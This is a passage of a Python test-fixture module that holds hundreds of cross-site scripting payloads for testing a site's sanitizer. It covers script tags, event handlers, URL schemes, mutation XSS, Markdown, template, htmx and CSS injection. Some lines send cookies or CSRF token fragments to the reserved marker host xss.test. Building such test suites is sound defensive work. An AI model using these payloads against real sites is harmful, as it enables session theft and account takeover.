"""A few hundred cross-site scripting payloads for the XSS tests (issue 11, item 9).

Written for this project from the families that public cheat sheets catalogue, in our
own words and variations, not copied lists:

- classic script and tag tricks: the OWASP XSS Filter Evasion Cheat Sheet (case,
  broken tags, nested tags, malformed quotes, `<<`, comments, CDATA);
- every event-handler name crossed with a few tag shapes (PortSwigger's Cross-Site
  Scripting Cheat Sheet lists which handler fires on which element without a click);
- dangerous URL schemes (javascript:, vbscript:, data:) in every attribute that takes a
  URL, hidden with character references, control characters and percent-encoding;
- mutation XSS and namespace confusion: markup that a sanitizer parses one way and the
  browser re-parses another way (math/svg/mglyph/style, noscript, template, comments in
  attributes), from the published DOMPurify and browser parser bypasses;
- Markdown: links, images, autolinks, reference definitions, link titles, code-fence
  info strings and raw HTML in every block (CommonMark's own edge cases);
- breaking out of the contexts our templates put user text in: attribute values,
  <title>, <textarea>, JSON-LD <script>, <style>, comments;
- entity and Unicode tricks: full-width brackets, zero-width and bidi characters,
  overlong UTF-8 in percent-encoding, escaped JS source;
- template injection ({{ }}, {% %}, ${ }, AngularJS sandbox escapes) and htmx attribute
  injection (hx-get / hx-on / hx-vals / hx-trigger="load"): on our pages htmx processes
  any hx-* attribute it finds, so one that survived would act with the reader's session;
- CSS injection (style attributes and <style>, url(), expression(), @import);
- polyglots that try many contexts at once.

Every payload that runs code calls one of alert/confirm/prompt/print or requests the
marker host `xss.test` or the marker path `/xss-marker/`: the browser test records both.
"""

from __future__ import annotations

MARKER_HOST = "xss.test"  # .test is reserved: never a real site
MARKER_PATH = "/xss-marker/"

# What a payload does when it runs; generated payloads rotate through these so each
# way of reaching code (plain call, template literal, indirect, fetch) is tried.
SINKS = (
    "alert(1)",
    "confirm`1`",
    "prompt(document.domain)",
    "print()",
    "fetch('//xss.test/f')",
    "top['al'+'ert'](1)",
    "(alert)(document.cookie)",
    "self[atob('YWxlcnQ=')](1)",
    "import('//xss.test/i.js')",
    "location='//xss.test/l'",
)

# --- 1. Script elements and broken tags (OWASP filter evasion) ----------------------------
SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>confirm(1)</sCrIpT>",
    "<script src=https://xss.test/a.js></script>",
    "<script src=//xss.test/a.js></script>",
    "<script src=/xss-marker/a.js></script>",
    "<script/src=//xss.test/b.js>",
    "<script\tsrc=//xss.test/c.js></script>",
    "<script\nsrc=//xss.test/d.js></script>",
    "<script >alert(1)</script >",
    "<script x>alert(1)</script y>",
    "<script>alert(1)//",
    "<script>alert(1)<!--",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scri<script>pt>alert(1)</scri</script>pt>",
    "<<script>alert(1);//<</script>",
    "<script<{alert(1)}/></script>",
    "<script>/*</script>*/alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="module">import("//xss.test/m.js")</script>',
    '<script type="text/html">alert(1)</script>',
    '<script language="vbscript">MsgBox 1</script>',
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>new Function`alert\\`1\\``</script>",
    "<script>[].constructor.constructor('alert(1)')()</script>",
    "<script>onerror=alert;throw 1</script>",
    "<script>{onerror=alert}throw 1</script>",
    "<script>throw onerror=alert,1</script>",
    "<script>location='javascript:alert(1)'</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<script src=data:,alert(1)></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    '<script src="/search/?q=alert(1)//"></script>',
    '<script src="/questions/preview/?body=alert(1)"></script>',
    "<script>fetch('//xss.test/cookie?'+document.cookie)</script>",
    "<SCRIPT/XSS SRC=//xss.test/x.js></SCRIPT>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<noscript><script>alert(1)</script></noscript>",
    "<script>alert(1)</script\n>",
]

# --- 2. Event handlers on tags that fire without a click (generated) ----------------------
EVENTS = (
    "onload", "onerror", "onfocus", "onfocusin", "onblur", "onclick", "onmouseover",
    "onmouseenter", "onpointerover", "onpointerenter", "onpointerdown", "onmousemove",
    "onanimationstart", "onanimationend", "onanimationiteration", "ontransitionend",
    "ontransitionrun", "onbegin", "onend", "onrepeat", "ontoggle", "onbeforetoggle",
    "onpageshow", "onhashchange", "onresize", "onscroll", "onscrollend", "oninput",
    "onchange", "oninvalid", "onsubmit", "onsearch", "onselect", "onkeydown", "onwheel",
    "onauxclick", "oncontextmenu", "ondrag", "onpaste", "oncopy", "onplay", "oncanplay",
    "onloadstart", "onloadeddata", "onstart", "onmessage", "onpopstate", "onbeforeinput",
    "oncontentvisibilityautostatechange", "onfullscreenchange",
)  # fmt: skip
SHAPES = (
    "<img src=x {event}={sink}>",
    '<svg {event}="{sink}">',
    "<details open {event}='{sink}'><summary>x</summary></details>",
    '<a href="https://example.com/" {event}="{sink}" autofocus tabindex=1>ok</a>',
)
EVENT_HANDLERS = [
    shape.format(event=event, sink=SINKS[(i + j) % len(SINKS)].replace("'", "&#39;"))
    for i, event in enumerate(EVENTS)
    for j, shape in enumerate(SHAPES)
]
# Tags and separators that filters forget: the handler is the same old onerror/onload.
HANDLER_SHAPES = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=\talert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    '<img src=x onerror="javascript:alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x"/onerror="alert(1)">',
    "<img src=x onerror=alert(1) x=",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=1 onerror=window['ale'+'rt'](1)>",
    "<image src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)//",
    "<svg><g onload=alert(1)></g></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x to=1>",
    "<svg><discard onbegin=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>x</button>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<iframe onload=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<audio controls autoplay onplay=alert(1)><source src=x></audio>",
    "<object data=x onerror=alert(1)>",
    "<embed src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<track src=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<p style=animation-name:spin onanimationstart=alert(1)>x</p>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div>",
    "<a id=x tabindex=1 onfocusin=alert(1)></a>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<td onmouseover=alert(1)>x</td>",
    "<li onclick=alert(1)>item</li>",
    "<h1 onmouseover=alert(1)>heading</h1>",
    "<strong onclick=alert(1)>bold</strong>",
    "<code onmouseover=alert(1)>code</code>",
    "<blockquote onmouseenter=alert(1)>q</blockquote>",
]

# --- 3. Dangerous URL schemes in URL attributes -------------------------------------------
SCHEME_SPELLINGS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#x01;javascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javas&Tab;cript:alert(1)",
    "javas&NewLine;cript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://comment%0Aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
    "vbscript:msgbox(1)",
    "VBSCRIPT:MsgBox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/javascript,alert(1)",
    " data:text/html,<script>alert(1)</script>",
    "livescript:alert(1)",
)
URL_ATTRIBUTE_SHAPES = (
    '<a href="{url}">click</a>',
    "<img src='{url}'>",
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><input type=submit></form>',
)
SCHEME_URLS = [
    shape.format(url=url.replace("'", "&#39;") if shape.count("'") else url.replace('"', "&quot;"))
    for url in SCHEME_SPELLINGS
    for shape in URL_ATTRIBUTE_SHAPES
]
OTHER_URL_ATTRIBUTES = [
    "<object data=javascript:alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<embed src=javascript:alert(1)>",
    "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<frame src=javascript:alert(1)>",
    '<button form=f formaction="javascript:alert(1)">x</button>',
    '<input type=submit formaction="javascript:alert(1)">',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" /></svg>',
    "<svg><set attributeName=href to=javascript:alert(1) /><a><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=a><text y=20>x</text></a></svg>",
    '<base href="javascript:alert(1)//">',
    '<base href="//xss.test/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=/xss-marker/meta">',
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<link rel="import" href="//xss.test/i.html">',
    '<link rel=prefetch href="/xss-marker/prefetch">',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<a href="javascript:alert(1)" ping="//xss.test/ping">x</a>',
    '<area href="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<img longdesc="javascript:alert(1)" src=https://example.com/a.png>',
    '<img src=x srcset="javascript:alert(1) 1x">',
    '<video poster="javascript:alert(1)"></video>',
    '<a href="https://example.com" target=_blank rel=opener>tabnabbing</a>',
    '<a href="//xss.test/">protocol-relative</a>',
    '<a href="/xss-marker/same-site">same site</a>',
    '<img src="/xss-marker/img">',
    '<img src="https://xss.test/pixel.png">',
    '<img src="http://xss.test/pixel.png">',
]

# --- 4. Mutation XSS and namespace confusion ----------------------------------------------
MUTATION = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mi><svg><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a title="a<!--"><img src=x onerror=alert(1)>-->">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version=1><img src=x onerror=alert(1)>?>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "<iframe><textarea></iframe><img src=x onerror=alert(1)>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><svg><style><img src=x onerror=alert(1)>",
    "<table><caption><svg><p><style><img src=x onerror=alert(1)>",
    "<dialog open><form method=dialog><img src=x onerror=alert(1)></form></dialog>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<img src=x id=x onerror=alert(1) is=x>",
    "<div id=x></div><img src=x name=x onerror=alert(1)>",
    "<form id=test><input id=attributes>",  # DOM clobbering of a sanitizer's own lookups
    "<img name=getElementById><img name=cookie>",
    "<a id=CONFIG><a id=CONFIG name=url href=javascript:alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=data:,alert(1)></script>",
    "<svg><script>&#x61;lert(1)</script>",
    "<math><xss xlink:href=javascript:alert(1)>x</xss></math>",
]

# --- 5. Markdown-specific ------------------------------------------------------------------
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript:alert%281%29)",
    "[click](javascript://%0Aalert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](java%09script:alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](  javascript:alert(1)  )",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    '[a](javascript:alert(1) "title")',
    '[a](https://example.com "title" onmouseover="alert(1)")',
    '[a](https://example.com" onmouseover="alert(1))',
    "[a](https://example.com 'x' onclick='alert(1)')",
    '[a](https://example.com "x"onmouseover="alert(1)"")',
    '[a](https://example.com "\\"onmouseover=\\"alert(1)")',
    '[a](https://example.com/"><script>alert(1)</script>)',
    "[a](https://example.com/'><img src=x onerror=alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[`<script>alert(1)</script>`](https://example.com)",
    "[x]: javascript:alert(1)\n\nsee [x]",
    '[x]: <javascript:alert(1)> "t"\n\n[click][x]',
    "[x]: javascript&#58;alert(1)\n\n[click][x]",
    '[x]: https://example.com "a" onmouseover="alert(1)"\n\n[click][x]',
    "[x]:\njavascript:alert(1)\n\n[click][x]",
    "[click][x]\n\n[X]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<javascript&#58;alert(1)>",
    "<mailto:a@example.com?body=<script>alert(1)</script>>",
    '<https://example.com/"onmouseover="alert(1)>',
    "<https://example.com/><img src=x onerror=alert(1)>",
    '[a](mailto:x@example.com"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://example.com/a.png"onerror="alert(1))',
    '![x" onerror="alert(1)](https://example.com/a.png)',
    '![x](https://example.com/a.png "t" onerror="alert(1)")',
    "![x](https://xss.test/track.png)",
    "![x](http://xss.test/track.png)",
    "![x](//xss.test/track.png)",
    "![x](/xss-marker/img.png)",
    "![<img src=x onerror=alert(1)>](https://example.com/a.png)",
    "[![x](https://example.com/a.png)](javascript:alert(1))",
    "[x](https://example.com)[y](javascript:alert(1))",
    "[[x](javascript:alert(1))](https://example.com)",
    "[x](javascript:alert(1)\n)",
    "[x](\njavascript:alert(1))",
    '```"><script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```',
    "``` onmouseover=alert(1)\ncode\n```",
    "```html\n<script>alert(1)</script>\n```",
    '~~~js"onload="alert(1)\nx\n~~~',
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "> <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>\n- <svg onload=alert(1)>",
    "1. <img src=x onerror=alert(1)>\n2. [x](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '| a |\n|:-" onmouseover="alert(1)|\n| b |',
    "| a |\n| --- |\n| <td onmouseover=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "Heading\n=======\n<script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "*<svg onload=alert(1)>*",
    "~~<script>alert(1)</script>~~",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<details>\n<summary>x</summary>\n\n<img src=x onerror=alert(1)>\n</details>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "[x](https://example.com/?a=<script>alert(1)</script>)",
    '[x](#"onmouseover="alert(1))',
    "[x](/xss-marker/relative)",
    "[x](//xss.test/)",
    '<a href="javascript:alert(1)">raw html link</a>',
    'text <span style="background:url(//xss.test/)">x</span>',
]

# --- 6. Breaking out of the contexts our templates use ------------------------------------
BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1) `",
    '"/><svg/onload=alert(1)>',
    '" style="background:url(//xss.test/)',
    '" hx-get="/xss-marker/attr" hx-trigger="load',
    "</title><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '"}</script><script>alert(1)</script>',
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</a><img src=x onerror=alert(1)>",
    "</h1><img src=x onerror=alert(1)>",
    "</p></div></main><script>alert(1)</script>",
    "<!--",
    "</html><script>alert(1)</script>",
    '"; alert(1); //',
    "'; alert(1); //",
    "\\'; alert(1); //",
    '\\"; alert(1); //',
    "${alert(1)}",
    "`${alert(1)}`",
    '{"a":"</script><script>alert(1)</script>"}',
    "\u2028alert(1)\u2029",
    "javascript:alert(1)",
    'x" x=\'"><img src=x onerror=alert(1)>',
]

# --- 7. Entities, encodings and Unicode ---------------------------------------------------
ENCODINGS = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%u003Cscript%u003Ealert(1)",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#x26;#x3C;script&#x26;#x3E;alert(1)",
    "&#0060script&#0062alert(1)&#0060/script&#0062",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width brackets
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",  # modifier-letter arrows
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",  # zero-width space
    "<img src=x on\u200berror=alert(1)>",
    "[x](java\u200bscript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "\u202e>tpircs/<)1(trela>tpircs<",  # right-to-left override
    "<img src=x one\u0000rror=alert(1)>".replace("\u0000", "\u00ad"),  # soft hyphen
    "<s\u0131cript>alert(1)</s\u0131cript>",  # dotless i
    "<\u017fcript>alert(1)</\u017fcript>",  # long s: upper-cases to S
    "<img src=x onerror=\u0061\u006c\u0065\u0072\u0074(1)>",
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="\u000bjavascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="jav\u00e1script:alert(1)">x</a>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",  # UTF-7
    "\ufeff<script>alert(1)</script>",
    '<img src=x onerror="&#x5c;u0061lert(1)">',
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
    '<a href="&NewLine;javascript&colon;alert(1)">x</a>',
]

# --- 8. Template injection (server and client side) ---------------------------------------
TEMPLATES = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
    "{% csrf_token %}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
    "<div ng-app ng-csp><p ng-click=$event.view.alert(1)>x</p></div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "${7*7}",
    "#{alert(1)}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{{= alert(1) }}",
    "{{{ '<script>alert(1)</script>' }}}",
    "<div x-data x-init=alert(1)></div>",
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\"></div>",
]

# --- 9. htmx attribute injection ----------------------------------------------------------
HTMX = [
    '<div hx-get="/xss-marker/hx-get" hx-trigger="load">x</div>',
    '<div data-hx-get="/xss-marker/data-hx-get" data-hx-trigger="load">x</div>',
    '<img src=x hx-get="/xss-marker/img" hx-trigger="load">',
    '<a href="https://example.com" hx-get="/xss-marker/a" hx-trigger="load">x</a>',
    '<p hx-post="/questions/1/delete/" hx-trigger="load">x</p>',
    '<p hx-get="/xss-marker/swap" hx-trigger="load" hx-target="body" hx-swap="outerHTML">x</p>',
    '<div hx-on:htmx:load="alert(1)">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div hx-on="htmx:load: alert(1)">x</div>',
    '<div data-hx-on:htmx:load="alert(1)">x</div>',
    '<button hx-on:click="alert(1)" autofocus>x</button>',
    '<div hx-get="/xss-marker/vals" hx-vals=\'js:{a:alert(1)}\' hx-trigger="load">x</div>',
    '<div hx-get="/xss-marker/hdr" hx-headers=\'js:{a:alert(1)}\' hx-trigger="load">x</div>',
    '<div hx-get="/xss-marker/cond" hx-trigger="load[alert(1)]">x</div>',
    '<div hx-get="//xss.test/hx" hx-trigger="load">x</div>',
    '<div hx-get="https://xss.test/hx" hx-trigger="load">x</div>',
    '<div hx-ext="debug" hx-get="/xss-marker/ext" hx-trigger="load">x</div>',
    '<div hx-trigger="load" hx-get="/xss-marker/order">x</div>',
    '<div hx-get="/xss-marker/ws" hx-trigger="every 1s">x</div>',
    '<div hx-get="/xss-marker/intersect" hx-trigger="intersect">x</div>',
    '<div hx-get="/xss-marker/revealed" hx-trigger="revealed">x</div>',
    '<form hx-post="/xss-marker/form" hx-trigger="load"><input name=a></form>',
    '<input name=q hx-get="/xss-marker/input" hx-trigger="load">',
    '<div hx-boost="true"><a href="/xss-marker/boost">x</a></div>',
    '<div hx-sse="connect:/xss-marker/sse">x</div>',
    '<div sse-connect="/xss-marker/sse2" hx-ext="sse">x</div>',
    '<div hx-disinherit="*" hx-headers=\'{"X-CSRFToken":"x"}\'>x</div>',
    '<script type="text/hyperscript">on load alert(1)</script>',
    '<div _="on load call alert(1)">x</div>',
    '[x](https://example.com "hx-get=/xss-marker/title hx-trigger=load")',
    "# x {hx-get=/xss-marker/heading hx-trigger=load}",
]

# --- 10. CSS injection --------------------------------------------------------------------
CSS = [
    "<style>@import 'https://xss.test/x.css';</style>",
    "<style>@import url(//xss.test/y.css);</style>",
    "<style>body{background:url(https://xss.test/bg)}</style>",
    "<style>*{background-image:url('/xss-marker/css')}</style>",
    "<style>input[name=csrfmiddlewaretoken][value^=a]{background:url(//xss.test/a)}</style>",
    "<style>@font-face{font-family:x;src:url(//xss.test/font)}body{font-family:x}</style>",
    "<style>body{behavior:url(//xss.test/x.htc)}</style>",
    "<style>body{-moz-binding:url(//xss.test/x.xml#x)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image:url(//xss.test/div)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="xss:expr/**/ession(alert(1))">x</div>',
    "<div style=\"background:url('/xss-marker/style')\">x</div>",
    '<p style="position:fixed;inset:0;z-index:9999;background:red">overlay</p>',
    '<td style="text-align:left;background:url(//xss.test/td)">x</td>',
    '<th style="text-align: center; background-image: url(/xss-marker/th)">x</th>',
    '<td style="text-align:left" onmouseover=alert(1)>x</td>',
    "<link rel=stylesheet href=//xss.test/x.css>",
    "<link rel=stylesheet href=/xss-marker/x.css>",
    "<svg><style>@import url(//xss.test/svg.css)</style></svg>",
    '<svg><image href="//xss.test/svgimg" /></svg>',
    '<div style="animation:x 1s" onanimationstart="alert(1)">x</div>',
    "<span style=\"font-family:'</style><script>alert(1)</script>'\">x</span>",
    "| a |\n|:--|\n| x |\n\n<style>td{background:url(//xss.test/t)}</style>",
]

# --- 11. Polyglots ------------------------------------------------------------------------
POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"--></style></script></title></textarea><svg/onload=alert(1)>",
    "\"'`><\\x3Cimg src=xxx:x \\x0Aonerror=javascript:alert(1)>",
    '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
    "</script><svg><script>alert(1)//'\"`</script></svg>",
    "'-alert(1)-'\"-alert(1)-\"`-alert(1)-`</script><img src=x onerror=alert(1)>",
    "\" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//",
    "%3C!--%3E%3Csvg/onload=alert(1)%3E",
    "<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`;//",
    '<a href="javas&#99;ript:alert(1)">\'"><img src=x onerror=alert(1)>{{7*7}}${7*7}</a>',
    "[x](javascript:alert(1))<img src=x onerror=alert(1)>{{constructor.constructor('alert(1)')()}}",
    '<<SCRIPT>alert(1)//<</SCRIPT>"><svg onload=alert(1)>[x](javascript:alert(1))',
    '<iframe/src="data:text/html,<svg onload=alert(1)>"><!--\'"</title></textarea></script>',
    '\'"><img src=x onerror=alert(1)><!--  hx-get="/xss-marker/poly" hx-trigger="load" -->',
]


def _unique(items: list[str]) -> list[str]:
    return list(dict.fromkeys(items))


FAMILIES: dict[str, list[str]] = {
    "script": SCRIPT_TAGS,
    "event": EVENT_HANDLERS,
